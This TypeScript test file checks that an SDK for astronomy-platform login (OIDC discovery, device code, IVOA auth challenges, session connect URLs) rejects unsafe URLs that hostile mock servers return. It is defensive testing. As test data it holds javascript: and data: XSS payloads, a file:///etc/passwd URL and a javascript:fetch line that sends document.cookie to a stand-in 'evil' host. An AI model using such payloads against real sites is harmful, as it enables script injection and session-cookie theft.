// Every URL a platform hands back is checked where the SDK parses it. The
// servers here are hostile platforms (they cannot exist for real in a test):
// small express apps that answer with javascript:, data: and off-machine
// http URLs where real platforms put their endpoints.
import express from 'express';
import {
  ProtocolError,
  SessionsClient,
  UnsafeUrlError,
  checkPlatformUrl,
  discoverOidc,
  finishAuthorizationCode,
  loginWithDeviceCode,
  methodsFromCapabilities,
  methodsFromChallenges,
  parseChallenges,
  startAuthorizationCode,
  type OidcMetadata,
} from '../../src/index.js';
import { start, type Running } from './support/servers.js';

const HOSTILE = ['javascript:alert(document.domain)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd'];

describe('checkPlatformUrl', () => {
  it.each([
    ['https://platform.example.org/oidc/auth', true],
    ['http://127.0.0.1:8765/oidc/auth', true],
    ['http://localhost/x', true],
    ['http://[::1]:9/x', true],
    ['http://platform.example.org/token', false],
    ['https://user:pw@platform.example.org/', false],
    ['JavaScript:alert(1)', false],
    [' javascript:alert(1)', false],
    ['java\tscript:alert(1)', false],
    ['//platform.example.org/x', false],
    ['/relative', false],
    ['', false],
    ...HOSTILE.map((url) => [url, false] as [string, boolean]),
  ])('%s → %s', (url, safe) => {
    if (safe) expect(checkPlatformUrl(url, 'x').href).toBe(new URL(url).href);
    else expect(() => checkPlatformUrl(url, 'authorization_endpoint')).toThrow(UnsafeUrlError);
  });

  it('never echoes the URL, only its scheme', () => {
    const error = (() => {
      try {
        checkPlatformUrl('javascript:fetch("//evil/?"+document.cookie)', 'authorization_endpoint');
      } catch (e) {
        return e as UnsafeUrlError;
      }
      throw new Error('accepted');
    })();
    expect(error.code).toBe('ERR_UNSAFE_URL');
    expect(error.field).toBe('authorization_endpoint');
    expect(error.scheme).toBe('javascript:');
    expect(error.message).not.toContain('evil');
  });
});

describe('a hostile OIDC provider', () => {
  let server: Running;
  let metadata: Record<string, unknown>;
  let device: Record<string, unknown>;
  let idTokenClaims: Record<string, unknown>;
  beforeAll(async () => {
    const app = express();
    app.get('/.well-known/openid-configuration', (_req, res) => res.json(metadata));
    app.post('/device', (_req, res) => res.json(device));
    app.post('/token', (_req, res) => {
      const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
      res.json({
        access_token: 'at',
        token_type: 'Bearer',
        expires_in: 60,
        id_token: `${part({ alg: 'none' })}.${part(idTokenClaims)}.`,
      });
    });
    server = await start(app);
  });
  afterAll(() => server.close());
  const good = (): Record<string, unknown> => ({
    issuer: server.origin,
    token_endpoint: `${server.origin}/token`,
    authorization_endpoint: `${server.origin}/auth`,
    device_authorization_endpoint: `${server.origin}/device`,
    jwks_uri: `${server.origin}/jwks`,
  });

  it.each([
    'authorization_endpoint',
    'token_endpoint',
    'device_authorization_endpoint',
    'jwks_uri',
    'end_session_endpoint',
    'issuer',
  ])('cannot get a hostile %s past discovery', async (field) => {
    for (const url of [...HOSTILE, 'http://platform.example.org/x']) {
      metadata = { ...good(), [field]: url };
      const error = await discoverOidc(server.origin).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(UnsafeUrlError);
      expect((error as UnsafeUrlError).field).toBe(field);
    }
    metadata = good();
    await expect(discoverOidc(server.origin)).resolves.toMatchObject({ issuer: server.origin });
  });

  it('cannot hand a hostile authorization endpoint to a browser, even in metadata built by hand', async () => {
    await expect(
      startAuthorizationCode({
        metadata: { ...(good() as unknown as OidcMetadata), authorization_endpoint: HOSTILE[0] },
        clientId: 'c',
        redirectUri: 'http://127.0.0.1:9/cb',
      }),
    ).rejects.toBeInstanceOf(UnsafeUrlError);
  });

  it('cannot send a refresh token or a code to a plain-http token endpoint off this machine', async () => {
    const request = await startAuthorizationCode({
      metadata: good() as unknown as OidcMetadata,
      clientId: 'c',
      redirectUri: 'http://127.0.0.1:9/cb',
    });
    await expect(
      finishAuthorizationCode({
        metadata: { ...(good() as unknown as OidcMetadata), token_endpoint: 'http://platform.example.org/token' },
        clientId: 'c',
        request,
        callbackUrl: `http://127.0.0.1:9/cb?code=x&state=${request.state}`,
      }),
    ).rejects.toBeInstanceOf(UnsafeUrlError);
  });

  it.each(['verification_uri', 'verification_uri_complete'])('cannot show a hostile device %s', async (field) => {
    device = {
      device_code: 'd',
      user_code: 'U',
      verification_uri: `${server.origin}/activate`,
      expires_in: 60,
      [field]: HOSTILE[0],
    };
    let shown = false;
    const error = await loginWithDeviceCode({
      metadata: good() as unknown as OidcMetadata,
      clientId: 'c',
      onVerification: () => {
        shown = true;
      },
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UnsafeUrlError);
    expect(shown).toBe(false);
  });

  it('checks the nonce, issuer and audience of the ID token it receives', async () => {
    const finish = async (claims: (nonce: string) => Record<string, unknown>): Promise<unknown> => {
      const request = await startAuthorizationCode({
        metadata: good() as unknown as OidcMetadata,
        clientId: 'c',
        redirectUri: 'http://127.0.0.1:9/cb',
      });
      idTokenClaims = claims(request.nonce);
      return finishAuthorizationCode({
        metadata: good() as unknown as OidcMetadata,
        clientId: 'c',
        request,
        callbackUrl: `http://127.0.0.1:9/cb?code=x&state=${request.state}`,
      }).catch((e: unknown) => e);
    };
    await expect(finish((nonce) => ({ iss: server.origin, aud: 'c', nonce }))).resolves.toMatchObject({
      access_token: 'at',
    });
    for (const [claims, element] of [
      [() => ({ iss: server.origin, aud: 'c', nonce: 'replayed' }), 'nonce'],
      [() => ({ iss: server.origin, aud: 'c' }), 'nonce'],
      [(nonce: string) => ({ iss: 'https://other.example.org', aud: 'c', nonce }), 'iss'],
      [(nonce: string) => ({ iss: server.origin, aud: ['other'], nonce }), 'aud'],
    ] as const) {
      const error = await finish(claims);
      expect(error).toBeInstanceOf(ProtocolError);
      expect((error as ProtocolError).element).toBe(element);
    }
  });
});

describe('access URLs from challenges and capabilities', () => {
  it('drops login methods whose access URL is not safe to send a login to', () => {
    const base = 'https://platform.example.org/tap';
    const header = [
      'ivoa_bearer standard_id="ivo://ivoa.net/sso#tls-with-password", access_url="javascript:alert(1)"',
      'ivoa_bearer standard_id="ivo://ivoa.net/sso#OAuth", access_url="http://evil.example.org/oidc"',
      'ivoa_cookie standard_id="ivo://ivoa.net/sso#tls-with-password", access_url="https://platform.example.org/login"',
    ].join(', ');
    const methods = methodsFromChallenges(parseChallenges(header), base);
    expect(methods).toEqual([
      expect.objectContaining({ type: 'password-cookie', accessUrl: 'https://platform.example.org/login' }),
    ]);
    expect(
      methodsFromCapabilities(
        [
          { standardId: 'ivo://ivoa.net/sso#tls-with-password', accessUrl: 'data:text/html,x' },
          { standardId: 'ivo://ivoa.net/sso#OAuth', accessUrl: 'http://127.0.0.1:8765/oidc' },
        ],
        [],
      ),
    ).toEqual([expect.objectContaining({ type: 'oidc', accessUrl: 'http://127.0.0.1:8765/oidc' })]);
  });
});

describe('session connect URLs', () => {
  let server: Running;
  let connectURL: string;
  beforeAll(async () => {
    const app = express();
    const session = (): Record<string, unknown> => ({ id: 'abc', type: 'carta', status: 'Running', connectURL });
    app.get('/skaha/v1/session', (_req, res) => res.json([session()]));
    app.get('/skaha/v1/session/abc', (_req, res) => res.json(session()));
    server = await start(app);
  });
  afterAll(() => server.close());

  it('refuses a listing or a session whose connectURL is not https (or loopback http)', async () => {
    const client = new SessionsClient({ baseUrl: `${server.origin}/skaha/v1` });
    for (const url of [...HOSTILE, 'http://platform.example.org/session/carta/abc/']) {
      connectURL = url;
      await expect(client.list()).rejects.toBeInstanceOf(UnsafeUrlError);
      await expect(client.get('abc')).rejects.toBeInstanceOf(UnsafeUrlError);
    }
    for (const url of ['<none>', `${server.origin}/session/carta/abc/`]) {
      connectURL = url;
      expect((await client.list())[0]?.connectURL).toBe(url);
    }
  });
});
